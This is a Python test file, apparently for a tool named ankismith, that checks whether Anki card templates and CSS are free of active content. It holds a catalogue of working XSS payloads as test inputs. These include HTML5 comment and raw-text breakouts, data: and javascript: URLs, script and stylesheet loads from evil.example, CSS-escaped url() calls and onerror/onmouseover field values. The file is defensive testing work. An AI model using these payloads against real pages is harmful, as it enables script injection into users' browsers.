"""Templates and stylesheets judged as a browser parses them.

The hostile catalogue first, then Hypothesis over HTML5 parse quirks, CSS escapes and
attribute contexts.

The oracle of the properties is the same parser: a template the judge passes, filled as Anki
fills it (fields with sanitised hostile text, sections kept or dropped, ``{{FrontSide}}``),
holds nothing active when parsed again.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ankismith.notetypes.builtin import NOTE_TYPES, template_text
from ankismith.notetypes.labels import css_string, deck_labels, fill
from ankismith.sanitize.active import judge_html, scripts_in
from ankismith.sanitize.clean import sanitize
from ankismith.sanitize.css import stylesheet_problems
from ankismith.sanitize.template import judge_template

ALERT = "<img src=x onerror=alert(1)>"

# The seventeen ways of issue 26 that passed check and build, and a few of their cousins.
# Each is (front, back or None): a back is judged with its front in place of {{FrontSide}}.
HOSTILE: dict[str, tuple[str, str | None]] = {
    "comment-closed-by-gt": (f"{{{{F}}}}<!-->{ALERT}-->", None),
    "comment-closed-by-dash-gt": (f"{{{{F}}}}<!--->{ALERT}-->", None),
    "comment-closed-by-bang": (f"{{{{F}}}}<!-- x --!>{ALERT}", None),
    "noscript-attribute": (f'{{{{F}}}}<noscript><p title="</noscript>{ALERT}"></noscript>', None),
    "noembed-attribute": (f'{{{{F}}}}<noembed><p title="</noembed>{ALERT}"></noembed>', None),
    "noframes-attribute": (f'{{{{F}}}}<noframes><p title="</noframes>{ALERT}"></noframes>', None),
    "iframe-attribute": (f'{{{{F}}}}<iframe><p title="</iframe>{ALERT}"></iframe>', None),
    "xmp-attribute": (f'{{{{F}}}}<xmp><p title="</xmp>{ALERT}"></xmp>', None),
    "title-attribute": (f'{{{{F}}}}<title><p title="</title>{ALERT}"></title>', None),
    "textarea-attribute": (f'{{{{F}}}}<textarea><p title="</textarea>{ALERT}"></textarea>', None),
    "iframe-srcdoc": (
        '{{F}}<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        None,
    ),
    "iframe-data": ('{{F}}<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', None),
    "object-data": ('{{F}}<object data="data:text/html,<script>alert(1)</script>"></object>', None),
    "embed-data": ('{{F}}<embed src="data:text/html,<script>alert(1)</script>">', None),
    "front-left-open": ('{{F}}<img src="x.png" title="', '{{FrontSide}}" onerror="alert(1)">'),
    "front-open-comment": ("{{F}}<!--", "{{FrontSide}}--><img src=x onerror=alert(1)>"),
    "front-open-tag-name": ("{{F}}<img", "{{FrontSide}} src=x onerror=alert(1)>"),
    # Cousins: fields and filters that Anki turns into markup.
    "text-filter": ("{{text:F}}", None),
    "field-in-href": ('<a href="{{F}}">x</a>', None),
    "field-in-path": ('<a href="https://example.org/{{F}}">x</a>', None),
    "field-unquoted": ("<a href={{F}}>x</a>", None),
    "field-in-style": ('<div style="color: {{F}}">x</div>', None),
    "field-in-comment": ("<!-- {{F}} -->", None),
    "field-in-script": ("<script>var f = '{{F}}';</script>", None),
    "field-in-tag": ("<div {{F}}>x</div>", None),
    "section-in-attribute": ('<div title="{{#F}}">{{/F}}x</div>', None),
    "script": ("{{F}}<script>alert(1)</script>", None),
    "script-src": ("{{F}}<script src=https://evil.example/x.js></script>", None),
    "handler": ("<div onclick=alert(1)>{{F}}</div>", None),
    "javascript-href": ('{{F}}<a href=" jav&#x09;ascript:alert(1)">x</a>', None),
    "data-href": ('{{F}}<a href="data:text/html,x">x</a>', None),
    "svg": ("{{F}}<svg><script>alert(1)</script></svg>", None),
    "svg-foreign-break-out": ("{{F}}<svg><style><img src=x onerror=alert(1)></style></svg>", None),
    "math": ('{{F}}<math><a href="javascript:alert(1)">x</a></math>', None),
    "base": ('{{F}}<base href="https://evil.example/">', None),
    "link": ('{{F}}<link rel=stylesheet href="https://evil.example/x.css">', None),
    "meta-refresh": ('{{F}}<meta http-equiv=refresh content="0;url=javascript:alert(1)">', None),
    "style-element": ("{{F}}<style>body{background:red}</style>", None),
    "srcset": ('{{F}}<img src="a.png" srcset="https://evil.example/a.png 2x">', None),
    "video-poster": ('{{F}}<video poster="https://evil.example/a.png"></video>', None),
    "form": ('{{F}}<form action="https://evil.example/"><button>x</button></form>', None),
    "template-element": ("{{F}}<template><img src=x onerror=alert(1)></template>", None),
    "plaintext": ("{{F}}<plaintext>", None),
    "delimiters": ("{{=<% %>=}}<%F%>", None),
    "unknown-filter": ("{{evil:F}}", None),
    "label-unquoted": ("<div title=[[label:hint]]>{{F}}</div>", None),
    "label-in-href": ('<a href="[[label:hint]]">{{F}}</a>', None),
}


@pytest.mark.parametrize(("front", "back"), HOSTILE.values(), ids=HOSTILE.keys())
def test_every_hostile_template_is_an_error(front: str, back: str | None) -> None:
    judged = judge_template(back, front=front) if back is not None else judge_template(front)
    errors = [p for p in judged.problems if not p.remote]
    assert errors, judged


def test_the_front_that_ends_open_is_itself_an_error_at_its_last_line() -> None:
    (problem,) = judge_template('{{F}}\n<img src="x.png" title="').problems
    assert problem.line == 2
    assert problem.message.startswith("the template ends inside an unfinished tag")


def test_problems_name_what_and_the_line() -> None:
    text = "<div>\n{{F}}\n<iframe srcdoc=x></iframe>\n<a href='{{G}}'>x</a>\n</div>"
    found = [(p.line, p.message.split(":")[0]) for p in judge_template(text).problems]
    assert found == [(3, "<iframe>"), (4, "field '{{G}}' stands inside the attribute 'href'")]


@pytest.mark.parametrize(
    "name",
    sorted({n for t in NOTE_TYPES.values() for tp in t.templates for n in (tp.front, tp.back)}),
)
def test_our_own_templates_pass(name: str) -> None:
    front = name.replace("back", "front")
    judged = judge_template(template_text(name), front=template_text(front))
    assert judged.problems == ()


def test_only_the_shipped_script_stays_without_the_opt_in() -> None:
    shipped = template_text("choice/front.html")
    assert judge_template(shipped).scripts == (6,)
    edited = shipped.replace("Math.random()", "0.5")
    assert "a <script> that ankismith did not write" in judge_template(edited).problems[0].message
    assert judge_template(edited, scripts=True).problems == ()


def test_an_opted_in_script_still_takes_no_field() -> None:
    judged = judge_template("{{F}}<script>var x = '{{F}}';</script>", scripts=True)
    assert "inside a <script>" in judged.problems[0].message
    assert judge_template("{{F}}<script>{{#F}}go();{{/F}}</script>", scripts=True).problems == ()


def test_safe_filters_and_special_fields_pass() -> None:
    text = "{{hint:F}} {{type:F}} {{cloze:F}} {{furigana:F}} {{kana:F}} {{tts en_US:F}} {{Tags}}"
    assert judge_template(text).problems == ()


def test_a_section_within_one_class_value_passes() -> None:
    assert judge_template('<div class="a {{#F}}b{{/F}} {{^G}}c{{/G}}">{{F}}</div>').problems == ()
    assert judge_template('<div class="{{#F}}b">{{/F}}{{F}}</div>').problems
    assert judge_template('<a href="{{#F}}b{{/F}}">{{F}}</a>').problems


def test_labels_pass_in_text_and_quoted_attributes() -> None:
    assert judge_template('<p title="[[label:hint]]">[[label:hint]]</p>{{F}}').problems == ()


def test_remote_loads_are_warnings() -> None:
    for text in (
        '{{F}}<img src="https://example.org/a.png">',
        '{{F}}<img src="//example.org/a.png">',
        '{{F}}<img src="\\\\example.org/a.png">',
        '{{F}}<div style="background: u\\72 l(https://example.org/a.png)">x</div>',
    ):
        (problem,) = judge_template(text).problems
        assert problem.remote, text


# Stylesheets


@pytest.mark.parametrize(
    ("css", "remote"),
    [
        ("a{}</style><!--><details open ontoggle=alert(1)>", False),
        ("a{}</STYLE >", False),
        ('@import "x.css";', False),
        ("@media screen { @import url(https://example.org/x.css); }", False),
        ("a { background: url(data:image/svg+xml,<svg onload=alert(1)>) }", False),
        ('a { background: url("javascript:alert(1)") }', False),
        ("a { background: url(https://example.org/a.png) }", True),
        ("a { background: url(//example.org/a.png) }", True),
        ('a { background: u\\72l("https://example.org/a.png") }', True),
        ("a { background: url(\\68 ttps://example.org/a.png) }", True),
        ('a { background: image-set("https://example.org/a.png" 1x) }', True),
        ('a { background: -webkit-image-set("//example.org/a.png" 1x) }', True),
        ('@font-face { src: src("https://example.org/f.woff2") }', True),
    ],
)
def test_css_is_read_as_css(css: str, remote: bool) -> None:
    problems = stylesheet_problems(css)
    assert problems, css
    kinds = {p.kind for p in problems}
    assert kinds == {"remote-resource"} if remote else "refused" in kinds


def test_bundled_css_urls_pass() -> None:
    css = '@font-face { src: url("_inter.woff2") } a { background: url(_bg.png) }'
    assert stylesheet_problems(css) == []


def test_a_hostile_label_is_harmless_in_every_context() -> None:
    hostile = '</style><img src=x onerror=alert(1)>" onmouseover="alert(2)'
    labels = deck_labels("", {"right": hostile, "hint": hostile})
    css = fill(template_text("labels.css"), labels, css=True)
    assert "</style" not in css.lower() and stylesheet_problems(css) == []
    assert css_string(hostile).count('"') == 0
    html = fill('<p title="[[label:hint]]">[[label:hint]]</p>', labels)
    assert [a for a in judge_html(html) if not a.remote] == []


def test_scripts_are_found_as_a_browser_finds_them() -> None:
    assert scripts_in("<script>a()</script><!--<script>b()</script>-->") == ("a()",)
    assert scripts_in('<SCRIPT src="x.js"></SCRIPT >') == ("src=x.js",)


# Properties

_PIECES = [
    "{{F}}",
    "{{G}}",
    "{{#F}}",
    "{{/F}}",
    "{{^G}}",
    "{{/G}}",
    "[[label:hint]]",
    "<b>",
    "</b>",
    "<div ",
    "<p ",
    "<a ",
    "<img ",
    "title=",
    'title="',
    "title='",
    "href=",
    "src=",
    "onclick=",
    "alert(1)",
    '"',
    "'",
    ">",
    "/>",
    " ",
    "\n",
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    "<noscript>",
    "</noscript>",
    "<textarea>",
    "</textarea>",
    "<xmp>",
    "</xmp>",
    "<svg>",
    "</svg>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "javascript:",
    "x.png",
    "&quot;",
    "<",
    "=",
]
_FIELD_TEXT = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1)",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "</b><img src=x onerror=alert(1)>",
    "-->",
    "</textarea><img src=x onerror=alert(1)>",
    "plain",
    "",
]
_HOSTILE_LABEL = '" onmouseover="alert(3)'
templates = st.lists(st.sampled_from(_PIECES), max_size=14).map("".join)


def _render(text: str, fields: dict[str, str], front: str = "") -> str:
    """Fill ``text`` as Anki does: sections by whether their field is empty, then fields."""

    def section(match: re.Match[str]) -> str:
        kind, name, body = match.group(1), match.group(2), match.group(3)
        shown = bool(fields.get(name)) == (kind == "#")
        return body if shown else ""

    previous = None
    while previous != text:
        previous = text
        text = re.sub(r"\{\{([#^])(\w+)\}\}(.*?)\{\{/\2\}\}", section, text, flags=re.S)
    text = text.replace("{{FrontSide}}", front)
    text = re.sub(r"\{\{(\w+)\}\}", lambda m: fields.get(m.group(1), ""), text)
    return fill(text, deck_labels("", {"hint": _HOSTILE_LABEL}))


def _active(html: str) -> list[str]:
    return [a.what for a in judge_html(html) if not a.remote]


@given(templates, st.sampled_from(_FIELD_TEXT), st.sampled_from(_FIELD_TEXT))
def test_a_template_that_passes_renders_nothing_active(text: str, f: str, g: str) -> None:
    if any(not p.remote for p in judge_template(text).problems):
        return
    fields = {"F": sanitize(f).html, "G": sanitize(g).html}
    assert _active(_render(text, fields)) == [], (text, fields)


@given(templates, templates, st.sampled_from(_FIELD_TEXT))
def test_a_back_that_passes_renders_nothing_active_after_its_front(
    front: str, back: str, f: str
) -> None:
    back = "{{FrontSide}}" + back
    if any(not p.remote for p in judge_template(front).problems):
        return
    if any(not p.remote for p in judge_template(back, front=front).problems):
        return
    fields = {"F": sanitize(f).html, "G": ""}
    assert _active(_render(back, fields, _render(front, fields))) == [], (front, back)


_ATTRIBUTES = ["href", "src", "title", "class", "style", "data-x", "alt"]
_QUOTES = ['"', "'", ""]


@given(
    st.sampled_from(["a", "img", "div", "span"]),
    st.sampled_from(_ATTRIBUTES),
    st.sampled_from(_QUOTES),
    st.sampled_from(["{{F}}", "{{text:F}}", "{{#F}}", "x{{F}}y", "{{Tags}}"]),
)
def test_a_field_in_any_attribute_context_is_refused(
    tag: str, attribute: str, quote: str, field: str
) -> None:
    text = f"<{tag} {attribute}={quote}{field}{quote}>{{{{G}}}}</{tag}>"
    assert any(not p.remote for p in judge_template(text).problems), text


def _css_escape(text: str, picks: list[bool]) -> str:
    return "".join(
        f"\\{ord(ch):x} " if pick and ch.isalnum() else ch
        for ch, pick in zip(text, picks + [False] * len(text), strict=False)
    )


@given(
    st.sampled_from(["https://example.org/a.png", "//example.org/a.png", "javascript:alert(1)"]),
    st.lists(st.booleans(), max_size=30),
    st.sampled_from(["url({})", 'url("{}")', "image-set('{}' 1x)", 'src("{}")']),
    st.booleans(),
)
def test_a_url_stays_found_under_any_css_escapes(
    url: str, picks: list[bool], form: str, escape_function: bool
) -> None:
    inner = _css_escape(url, picks)
    if form == "url({})":
        inner = inner.replace(" ", "")  # an unquoted URL takes no space: use the escape only
        inner = _css_escape(url, [False] * len(url))
    written = form.format(inner)
    if escape_function and written.startswith("url"):
        written = "u\\72 l" + written[3:]
    assert stylesheet_problems(f"a {{ background: {written} }}"), written


IMAGE_OCCLUSION = (
    "{{#Header}}<div>{{Header}}</div>{{/Header}}\n"
    '<div style="display: none">{{cloze:Occlusion}}</div>\n<div id="err"></div>\n'
    '<div id="image-occlusion-container">\n    {{Image}}\n'
    '    <canvas id="image-occlusion-canvas"></canvas>\n</div>\n<script>\ntry {\n'
    "    anki.imageOcclusion.setup();\n} catch (exc) {\n"
    '    document.getElementById("err").innerHTML = `Error loading image occlusion. Is your '
    "Anki version up to date?<br><br>${exc}`;\n}\n</script>\n"
)


def test_ankis_stock_image_occlusion_template_passes_in_its_own_form() -> None:
    assert judge_template(IMAGE_OCCLUSION).problems == ()
    hostile = IMAGE_OCCLUSION.replace("Error loading", "<img src=x onerror=alert(1)>")
    assert judge_template(hostile).problems
    edited = IMAGE_OCCLUSION.replace("setup();", "setup(); fetch('//evil');")
    assert judge_template(edited).problems


def test_html_nested_past_the_limit_is_refused_at_once() -> None:
    (problem,) = judge_template("<div>" * 20_000 + "{{F}}").problems
    assert problem.message.startswith("elements nested more than 256 deep")
    assert judge_template("<div>" * 200 + "{{F}}").problems == ()
    (active,) = judge_html("<span>" * 5_000)
    assert "nested more than 256 deep" in active.what
    assert "not listed" in sanitize("<span>" * 5_000 + "<b onclick=x>y</b>").removed[0].message
